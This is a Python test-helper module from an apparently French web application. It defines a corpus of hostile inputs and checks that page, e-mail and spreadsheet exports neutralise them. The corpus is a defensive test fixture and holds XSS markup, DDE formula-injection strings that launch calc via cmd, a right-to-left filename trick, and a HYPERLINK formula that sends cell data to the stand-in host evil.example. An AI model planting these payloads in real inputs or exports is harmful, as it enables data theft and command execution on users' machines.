"""The hostile corpus: what a user may type, paste or import into a free-text field, and the
checks that every channel (page, e-mail, spreadsheet, PDF) applies to what comes out."""

import csv
from io import BytesIO, StringIO
from xml.etree import ElementTree
from zipfile import ZipFile

from openpyxl import load_workbook

from core.exports import FORMULA_STARTS

MARKUP = "<script>alert('pilotis')</script><ul><li>liste</li></ul>"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2;"Cliquez ici")'
CORPUS = {
    "markup": MARKUP,
    "formula": HYPERLINK,
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "control": "avant\x01\x07\x1bapr\u00e8s",
    "long": "L" * 10_000,
    "right-to-left": "\u202egnp.exe",
    "emoji": "\U0001f3eb \u00c9cole \u00e9t\u00e9 \U0001f469\u200d\U0001f3eb",
}
NUL = "avant\x00apr\u00e8s"
# Django's French message for a NUL byte in a text field.
NUL_MESSAGE = "Le caractère nul n’est pas autorisé."


def assert_escaped(html: str) -> None:
    """A page that shows the corpus shows its markup as text, never as markup."""
    assert "<script>alert(" not in html
    assert "<ul><li>liste" not in html


def assert_plain_text(text: str) -> None:
    """An e-mail reads as typed: no HTML entity in it."""
    for entity in ("&lt;", "&gt;", "&#x27;", "&quot;", "&amp;"):
        assert entity not in text, entity


def assert_no_live_formula(cells) -> None:
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS), value


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (
                    f"formule vivante en {sheet.title}!{cell.coordinate}: {cell.value}"
                )
                cells.append(cell.value)
    return cells


def ods_texts(content: bytes) -> list[str]:
    """The text of every cell of an ODS file, read from its content.xml."""
    xml = ZipFile(BytesIO(content)).read("content.xml")
    ns = {
        "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    }
    root = ElementTree.fromstring(xml)  # noqa: S314 - our own export, read back in a test
    texts = []
    for cell in root.iter(f"{{{ns['table']}}}table-cell"):
        assert f"{{{ns['table']}}}formula" not in cell.attrib, cell.attrib
        paragraphs = cell.findall("text:p", ns)
        if paragraphs:
            texts.append("\n".join("".join(p.itertext()) for p in paragraphs))
    return texts


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(StringIO(text), delimiter=";") for cell in row]
